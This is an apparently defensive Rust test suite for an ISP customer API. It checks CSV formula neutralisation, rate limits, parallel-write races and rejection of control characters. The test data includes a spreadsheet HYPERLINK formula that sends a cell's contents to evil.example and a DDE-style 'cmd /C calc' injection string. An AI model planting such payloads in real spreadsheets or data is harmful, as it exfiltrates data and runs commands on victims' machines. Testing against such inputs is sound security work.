//! What an attacker, a careless spreadsheet or racing writers try: formulas
//! in exported cells, enumeration through registration, floods of anonymous
//! writes, control characters and made-up ids, and parallel writers that
//! must not share a customer number or an ODP port.

use std::collections::HashSet;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::task::JoinSet;

use crate::{
    both_backends,
    support::{Session, TestApp, assert_problem},
};

both_backends!(
    exported_formulas_are_neutralised_and_import_back_unchanged,
    refused_registrations_count_toward_a_limit,
    parallel_registrations_cannot_pass_the_hourly_limit,
    coverage_checks_record_demand_once_per_place_and_within_a_limit,
    parallel_creates_get_distinct_customer_numbers,
    parallel_claims_of_one_port_give_one_customer,
    control_characters_are_refused_in_every_text,
    control_characters_in_searches_and_filters_are_no_server_error,
    client_ids_must_be_uuid_v7,
);

const ATTACK: &str = r#"=HYPERLINK("http://evil.example/?d="&B2,"Klik")"#;

async fn active_package(app: &TestApp) -> anyhow::Result<Value> {
    Ok(app.get_json("/api/v1/packages?active=true").await?.1["items"][0]["id"].clone())
}

/// A registration inside the Bandung service area.
fn registration(package: &Value, name: &str, phone: &str, slot: &(String, String)) -> Value {
    json!({
        "name": name, "phone": phone, "email": null,
        "address": "Jl. Tubagus Ismail No. 8, Coblong",
        "location": {"lat": -6.8850, "lng": 107.6200},
        "package_id": package, "preferred_date": slot.0,
        "preferred_window": slot.1, "password": "kopi susu gula aren", "website": ""
    })
}

/// Sends `bodies` to `path` all at once; the statuses and bodies.
async fn in_parallel(
    client: &reqwest::Client,
    method: Method,
    url: String,
    csrf: Option<&str>,
    bodies: Vec<Option<Value>>,
) -> anyhow::Result<Vec<(StatusCode, Value, bool)>> {
    let mut set = JoinSet::new();
    for body in bodies {
        let mut request = client.request(method.clone(), &url);
        if let Some(csrf) = csrf {
            request = request.header("x-csrf-token", csrf);
        }
        if let Some(body) = body {
            request = request.json(&body);
        }
        set.spawn(async move {
            let response = request.send().await?;
            let status = response.status();
            let retry_after = response.headers().contains_key("retry-after");
            let body: Value = response.json().await.unwrap_or(Value::Null);
            anyhow::Ok((status, body, retry_after))
        });
    }
    let mut out = Vec::new();
    while let Some(done) = set.join_next().await {
        out.push(done??);
    }
    Ok(out)
}

fn count(results: &[(StatusCode, Value, bool)], status: u16) -> usize {
    results.iter().filter(|r| r.0.as_u16() == status).count()
}

// ------------------------------------------------------- item 3: CSV

async fn exported_formulas_are_neutralised_and_import_back_unchanged(
    app: &TestApp,
) -> anyhow::Result<()> {
    let package = active_package(app).await?;
    let slot = app.open_windows(-6.8850, 107.6200, 1).await?.remove(0);
    let registered = app
        .client
        .post(app.url("/api/v1/registrations"))
        .json(&registration(&package, ATTACK, "0812 7777 0001", &slot))
        .send()
        .await?;
    assert_eq!(registered.status(), 201);
    let registered: Value = registered.json().await?;
    let id = registered["customer"]["id"]
        .as_str()
        .ok_or_else(|| anyhow::anyhow!("no id in {registered}"))?
        .to_string();
    assert_eq!(registered["customer"]["name"], ATTACK, "stored as typed");

    // Staff add an address and notes that start like formulas too.
    let admin = app.signed_in("admin").await?;
    let notes = "@SUM(1+1)*cmd|' /C calc'!A0\nbaris kedua\tdengan tab";
    let address = "-2+3, Jl. Tubagus Ismail No. 8";
    let patched = admin
        .send(
            Method::PATCH,
            &format!("/api/v1/customers/{id}"),
            Some(json!({"notes": notes, "address": address, "email": "'quoted@contoh.id"})),
        )
        .await?;
    assert_eq!(patched.status(), 200);
    let before: Value = admin
        .get(&format!("/api/v1/customers/{id}"))
        .await?
        .json()
        .await?;

    let export = admin.get("/api/v1/exports/customers").await?;
    assert_eq!(export.status(), 200);
    let file = export.text().await?;
    let mut reader = csv::Reader::from_reader(file.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader.headers()?.clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap_or(usize::MAX);
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
    let row = rows
        .iter()
        .find(|r| r.get(column("phone")) == Some("'+6281277770001"))
        .ok_or_else(|| anyhow::anyhow!("the registration is not in the export:\n{file}"))?;
    assert_eq!(row.get(column("name")), Some(format!("'{ATTACK}").as_str()));
    assert_eq!(
        row.get(column("address")),
        Some(format!("'{address}").as_str())
    );
    assert_eq!(row.get(column("notes")), Some(format!("'{notes}").as_str()));
    assert_eq!(row.get(column("email")), Some("''quoted@contoh.id"));
    // No text cell of the whole file can start a formula (numbers can be
    // negative: they are numbers, not formulas).
    let numeric = [column("lat"), column("lng"), column("odp_port")];
    for r in &rows {
        for (i, cell) in r.iter().enumerate() {
            assert!(
                numeric.contains(&i) || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{} of {:?} starts a formula: {cell:?}",
                &headers[i],
                r.get(0)
            );
        }
    }

    // The export imports back as it was: a dry run, then for real.
    let import = |dry_run: bool| {
        admin
            .client
            .post(admin.url(&format!("/api/v1/imports/customers?dry_run={dry_run}")))
            .header("x-csrf-token", &admin.csrf)
            .header("content-type", "text/csv")
            .body(file.clone())
            .send()
    };
    let dry: Value = import(true).await?.json().await?;
    assert_eq!(dry["errors"], json!([]), "{dry}");
    assert_eq!(
        (dry["created"].as_u64(), dry["updated"].as_u64()),
        (Some(0), Some(rows.len() as u64))
    );
    let applied = import(false).await?;
    assert_eq!(applied.status(), 200);
    let after: Value = admin
        .get(&format!("/api/v1/customers/{id}"))
        .await?
        .json()
        .await?;
    for field in ["name", "phone", "whatsapp", "email", "address", "notes"] {
        assert_eq!(after[field], before[field], "{field}");
    }
    assert_eq!(after["name"], ATTACK);
    assert_eq!(after["phone"], "+6281277770001");
    Ok(())
}

// ---------------------------------------------- item 5: registrations

async fn refused_registrations_count_toward_a_limit(app: &TestApp) -> anyhow::Result<()> {
    let package = active_package(app).await?;
    // A phone that has an account: every attempt is refused as `taken`.
    let taken = app
        .demo
        .accounts
        .iter()
        .find(|a| a.role == "customer")
        .map(|a| a.login.clone())
        .ok_or_else(|| anyhow::anyhow!("no demo customer"))?;
    let slot = app.open_windows(-6.8850, 107.6200, 1).await?.remove(0);
    let body = registration(&package, "Budi Santoso", &taken, &slot);
    let results = in_parallel(
        &app.client,
        Method::POST,
        app.url("/api/v1/registrations"),
        None,
        (0..25).map(|_| Some(body.clone())).collect(),
    )
    .await?;
    let (refused, limited) = (count(&results, 422), count(&results, 429));
    assert_eq!((refused, limited), (20, 5), "{results:?}");
    for (status, problem, retry_after) in &results {
        match status.as_u16() {
            422 => assert_eq!(
                (
                    &problem["errors"][0]["field"],
                    &problem["errors"][0]["code"]
                ),
                (&json!("phone"), &json!("taken"))
            ),
            _ => {
                assert!(retry_after, "429 says when to come back");
                assert_eq!(problem["type"], "/problems/too-many-requests");
            }
        }
    }
    // A good registration from the same address now waits too.
    let good = app
        .client
        .post(app.url("/api/v1/registrations"))
        .json(&registration(&package, "Siti", "0812 7777 0002", &slot))
        .send()
        .await?;
    assert_problem(good, 429, "/problems/too-many-requests").await?;
    Ok(())
}

async fn parallel_registrations_cannot_pass_the_hourly_limit(app: &TestApp) -> anyhow::Result<()> {
    let package = active_package(app).await?;
    // Each in a window of its own, so that room is never what stops one.
    let slots = app.open_windows(-6.8850, 107.6200, 8).await?;
    let bodies = slots
        .iter()
        .enumerate()
        .map(|(n, slot)| {
            Some(registration(
                &package,
                "Budi Santoso",
                &format!("0812 7777 10{n:02}"),
                slot,
            ))
        })
        .collect();
    let results = in_parallel(
        &app.client,
        Method::POST,
        app.url("/api/v1/registrations"),
        None,
        bodies,
    )
    .await?;
    assert_eq!(
        (count(&results, 201), count(&results, 429)),
        (5, 3),
        "five an hour from one address: {results:?}"
    );
    Ok(())
}

// ------------------------------------------------- item 6: demand

async fn demand_total(admin: &Session) -> anyhow::Result<u64> {
    let list: Value = admin
        .get("/api/v1/demand-points?source=coverage_check&limit=1")
        .await?
        .json()
        .await?;
    list["total"]
        .as_u64()
        .ok_or_else(|| anyhow::anyhow!("no total in {list}"))
}

async fn coverage_checks_record_demand_once_per_place_and_within_a_limit(
    app: &TestApp,
) -> anyhow::Result<()> {
    let admin = app.signed_in("admin").await?;
    let start = demand_total(&admin).await?;
    // Jakarta: outside every service area, never covered.
    let at = |lat: f64, lng: f64| Some(app.url(&format!("/api/v1/coverage?lat={lat}&lng={lng}")));

    let results = run_gets(app, (0..20).map(|_| at(-6.1754, 106.8272)).collect()).await?;
    assert_eq!(count(&results, 200), 20);
    assert!(results.iter().all(|r| r.1["covered"] == false));
    assert_eq!(
        demand_total(&admin).await?,
        start + 1,
        "one place, one day: one demand point"
    );

    // 60 different places from one address: the first 20 of the hour count.
    let places = (0..60)
        .map(|n| at(-6.20 - 0.002 * f64::from(n), 106.80))
        .collect();
    let results = run_gets(app, places).await?;
    assert_eq!(count(&results, 200), 60, "the answer still comes");
    assert!(results.iter().all(|r| r.1["covered"] == false));
    assert_eq!(
        demand_total(&admin).await?,
        start + 20,
        "at most 20 demand points an hour from one address"
    );
    Ok(())
}

async fn run_gets(
    app: &TestApp,
    urls: Vec<Option<String>>,
) -> anyhow::Result<Vec<(StatusCode, Value, bool)>> {
    let mut set = JoinSet::new();
    for url in urls.into_iter().flatten() {
        let client = app.client.clone();
        set.spawn(async move {
            let response = client.get(url).send().await?;
            let status = response.status();
            let body: Value = response.json().await?;
            anyhow::Ok((status, body, false))
        });
    }
    let mut out = Vec::new();
    while let Some(done) = set.join_next().await {
        out.push(done??);
    }
    Ok(out)
}

// ------------------------------------------------- item 15: races

fn new_customer(package: &Value, phone: &str, location: &Value) -> Value {
    json!({
        "name": "Pelanggan Paralel", "phone": phone,
        "address": "Jl. Dipatiukur No. 35, Coblong", "location": location,
        "package_id": package
    })
}

async fn parallel_creates_get_distinct_customer_numbers(app: &TestApp) -> anyhow::Result<()> {
    let cs = app.signed_in("cs").await?;
    let package = active_package(app).await?;
    let location = json!({"lat": -6.8915, "lng": 107.6160});
    let bodies = (0..10)
        .map(|n| {
            Some(new_customer(
                &package,
                &format!("0857 3333 00{n:02}"),
                &location,
            ))
        })
        .collect();
    let results = in_parallel(
        &cs.client,
        Method::POST,
        cs.url("/api/v1/customers"),
        Some(&cs.csrf),
        bodies,
    )
    .await?;
    assert_eq!(count(&results, 201), 10, "{results:?}");
    let numbers: HashSet<&str> = results
        .iter()
        .filter_map(|r| r.1["customer_number"].as_str())
        .collect();
    assert_eq!(numbers.len(), 10, "distinct numbers: {numbers:?}");
    // They continue after the demo's numbers.
    let demo_highest = format!("PLG-{:07}", app.demo.customers);
    assert!(
        numbers.iter().all(|n| *n > demo_highest.as_str()),
        "{numbers:?}"
    );
    Ok(())
}

async fn parallel_claims_of_one_port_give_one_customer(app: &TestApp) -> anyhow::Result<()> {
    let cs = app.signed_in("cs").await?;
    let package = active_package(app).await?;
    let odps: Value = cs
        .get("/api/v1/odps?status=active&limit=50")
        .await?
        .json()
        .await?;
    let odp = odps["items"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|o| o["free_ports"].as_i64().is_some_and(|f| f > 0))
        .ok_or_else(|| anyhow::anyhow!("no ODP with a free port"))?
        .clone();
    let ports: Value = cs
        .get(&format!(
            "/api/v1/odps/{}/ports",
            odp["id"].as_str().unwrap_or_default()
        ))
        .await?
        .json()
        .await?;
    let port = ports["items"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|p| p["in_use"] == false)
        .and_then(|p| p["port"].as_i64())
        .ok_or_else(|| anyhow::anyhow!("no free port on {odp}"))?;
    let bodies = (0..5)
        .map(|n| {
            let mut body = new_customer(&package, &format!("0857 4444 00{n:02}"), &odp["location"]);
            body["odp_id"] = odp["id"].clone();
            body["odp_port"] = json!(port);
            body["status"] = json!("active");
            Some(body)
        })
        .collect();
    let results = in_parallel(
        &cs.client,
        Method::POST,
        cs.url("/api/v1/customers"),
        Some(&cs.csrf),
        bodies,
    )
    .await?;
    assert_eq!(
        (count(&results, 201), count(&results, 422)),
        (1, 4),
        "{results:?}"
    );
    for (status, problem, _) in &results {
        if status.as_u16() == 422 {
            assert_eq!(
                (
                    &problem["errors"][0]["field"],
                    &problem["errors"][0]["code"]
                ),
                (&json!("odp_port"), &json!("port_taken")),
                "{problem}"
            );
        }
    }
    Ok(())
}

// ------------------------------------------------- item 10: input

async fn control_characters_are_refused_in_every_text(app: &TestApp) -> anyhow::Result<()> {
    let package = active_package(app).await?;
    let admin = app.signed_in("admin").await?;
    let refused = |response: reqwest::Response, field: &'static str| async move {
        let what = format!("{} {}", response.url().path(), field);
        let status = response.status();
        let problem: Value = response.json().await?;
        assert_eq!(status, 422, "{what}: {problem}");
        assert_eq!(problem["type"], "/problems/validation", "{what}");
        let codes: Vec<(&str, &str)> = problem["errors"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|e| Some((e["field"].as_str()?, e["code"].as_str()?)))
            .collect();
        assert!(
            codes.contains(&(field, "control_character")),
            "{field}: {problem}"
        );
        anyhow::Ok(())
    };

    // Anonymous registration: a NUL (which PostgreSQL cannot store).
    let slot = app.open_windows(-6.8850, 107.6200, 1).await?.remove(0);
    let body = registration(&package, "Budi\u{0}Santoso", "0812 7777 2001", &slot);
    let response = app
        .client
        .post(app.url("/api/v1/registrations"))
        .json(&body)
        .send()
        .await?;
    refused(response, "name").await?;

    let mut body = new_customer(
        &package,
        "0857 5555 0001",
        &json!({"lat": -6.8915, "lng": 107.6160}),
    );
    body["address"] = json!("Jl. Dago\u{1b}[2J No. 1");
    body["notes"] = json!("bel \u{7}");
    let response = admin
        .send(Method::POST, "/api/v1/customers", Some(body.clone()))
        .await?;
    refused(response, "address").await?;
    // Tabs and line breaks belong in notes; nowhere else.
    body["address"] = json!("Jl. Dago No. 1");
    body["notes"] = json!("pagar biru\n\tbel rusak");
    let created = admin
        .send(Method::POST, "/api/v1/customers", Some(body))
        .await?;
    assert_eq!(created.status(), 201);
    let created: Value = created.json().await?;
    assert_eq!(created["notes"], "pagar biru\n\tbel rusak");

    for (method, path, body, field) in [
        (
            Method::POST,
            "/api/v1/teams",
            json!({"name": "Tim\tA"}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/users",
            json!({"name": "Ani\u{0}", "email": "ani@isp.example", "role": "cs", "password": "tiang listrik miring"}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/users",
            json!({"name": "Ani", "email": "ani\u{0}@isp.example", "role": "cs", "password": "tiang listrik miring"}),
            "email",
        ),
        (
            Method::PATCH,
            "/api/v1/me",
            json!({"name": "Ad\u{85}min"}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/api-tokens",
            json!({"name": "billing\nsync", "scopes": ["customers.read"]}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/packages",
            json!({"name": "Paket 1", "download_mbps": 10, "monthly_price_idr": 1, "description": "cepat\u{0}"}),
            "description",
        ),
        (
            Method::POST,
            "/api/v1/areas",
            json!({"code": "JKT\u{0}", "name": "Jakarta", "city": "Jakarta", "center": {"lat": -6.2, "lng": 106.8}, "radius_m": 1000}),
            "code",
        ),
    ] {
        let response = admin.send(method, path, Some(body)).await?;
        refused(response, field).await?;
    }

    // A CSV import reports them per line.
    let csv =
        "code,name,city,lat,lng,radius_m\nJKT-01,Jakarta\u{0} Pusat,Jakarta,-6.2,106.8,1000\n";
    let report: Value = admin
        .client
        .post(admin.url("/api/v1/imports/areas?dry_run=true"))
        .header("x-csrf-token", &admin.csrf)
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await?
        .json()
        .await?;
    assert_eq!(
        (&report["errors"][0]["field"], &report["errors"][0]["code"]),
        (&json!("name"), &json!("control_character")),
        "{report}"
    );
    Ok(())
}

async fn control_characters_in_searches_and_filters_are_no_server_error(
    app: &TestApp,
) -> anyhow::Result<()> {
    use base64::Engine;
    let admin = app.signed_in("admin").await?;
    let forged = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode(json!(["a\u{0}", uuid::Uuid::now_v7()]).to_string());
    let mut paths = vec![
        "/api/v1/customers?q=%00".to_string(),
        "/api/v1/customers?q=Budi%00".to_string(),
        "/api/v1/customers?status=%00".to_string(),
        "/api/v1/users?q=%00&role=%00".to_string(),
        "/api/v1/users?status=%00".to_string(),
        "/api/v1/teams?q=%1B%00".to_string(),
        "/api/v1/odps?q=%00&status=%00".to_string(),
        "/api/v1/odcs?q=%00&status=%00".to_string(),
        "/api/v1/packages?q=%00".to_string(),
        "/api/v1/areas?q=%00".to_string(),
        "/api/v1/areas?city=%00".to_string(),
        "/api/v1/demand-points?source=%00".to_string(),
        "/api/v1/audit-events?entity=%00".to_string(),
        "/api/v1/audit-events?entity_id=%00&action=%00".to_string(),
        "/api/v1/coverage?lat=%00&lng=107".to_string(),
    ];
    for list in [
        "customers",
        "users",
        "teams",
        "odps",
        "odcs",
        "packages",
        "areas",
    ] {
        paths.push(format!("/api/v1/{list}?cursor={forged}"));
    }
    // A sign-in with a NUL in the login is a wrong login, not a fault.
    let login = app
        .client
        .post(app.url("/api/v1/auth/login"))
        .json(&json!({"login": "admin\u{0}@isp.example", "password": "tiang listrik miring"}))
        .send()
        .await?;
    assert_eq!(login.status(), 401);
    for path in paths {
        let response = admin.get(&path).await?;
        let status = response.status().as_u16();
        assert!(
            status == 200 || status == 422,
            "{path}: {status} {}",
            response.text().await?
        );
    }
    Ok(())
}

async fn client_ids_must_be_uuid_v7(app: &TestApp) -> anyhow::Result<()> {
    let admin = app.signed_in("admin").await?;
    let package = active_package(app).await?;
    let odcs: Value = admin.get("/api/v1/odcs?limit=1").await?.json().await?;
    let odc = odcs["items"][0]["id"].clone();
    let area = odcs["items"][0]["area_id"].clone();
    let nil = uuid::Uuid::nil().to_string();
    let v4 = "3f0f8c1e-2b4a-4c8e-9d1a-7b6e5f4a3c2b";
    let bodies = |id: &str| {
        vec![
            (
                "/api/v1/areas",
                json!({"id": id, "code": "JKT-9", "name": "Jakarta", "city": "Jakarta", "center": {"lat": -6.2, "lng": 106.8}, "radius_m": 1000}),
            ),
            (
                "/api/v1/odcs",
                json!({"id": id, "code": "ODC-X-9", "name": "ODC X", "area_id": area, "location": {"lat": -6.89, "lng": 107.61}}),
            ),
            (
                "/api/v1/odps",
                json!({"id": id, "code": "ODP-X-9", "name": "ODP X", "odc_id": odc, "location": {"lat": -6.89, "lng": 107.61}, "port_count": 8}),
            ),
            (
                "/api/v1/packages",
                json!({"id": id, "name": "Paket X", "download_mbps": 10, "monthly_price_idr": 100000}),
            ),
            (
                "/api/v1/customers",
                new_customer(
                    &package,
                    "0857 6666 0001",
                    &json!({"lat": -6.8915, "lng": 107.6160}),
                )
                .as_object()
                .map(|o| {
                    let mut o = o.clone();
                    o.insert("id".into(), json!(id));
                    Value::Object(o)
                })
                .unwrap_or_default(),
            ),
            ("/api/v1/teams", json!({"id": id, "name": "Tim X"})),
            (
                "/api/v1/users",
                json!({"id": id, "name": "Ani", "email": "ani@isp.example", "role": "cs", "password": "tiang listrik miring"}),
            ),
        ]
    };
    for bad in [nil.as_str(), v4] {
        for (path, body) in bodies(bad) {
            let response = admin.send(Method::POST, path, Some(body)).await?;
            let problem = assert_problem(response, 422, "/problems/validation").await?;
            assert!(
                problem["errors"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .any(|e| e["field"] == "id" && e["code"] == "id_version"),
                "{path} with {bad}: {problem}"
            );
        }
    }
    // A UUIDv7 made by the client is taken as it is.
    for (path, body) in bodies(&uuid::Uuid::now_v7().to_string()) {
        let id = body["id"].clone();
        let response = admin.send(Method::POST, path, Some(body)).await?;
        assert_eq!(response.status(), 201, "{path}");
        let created: Value = response.json().await?;
        assert_eq!(created["id"], id, "{path}");
    }
    Ok(())
}
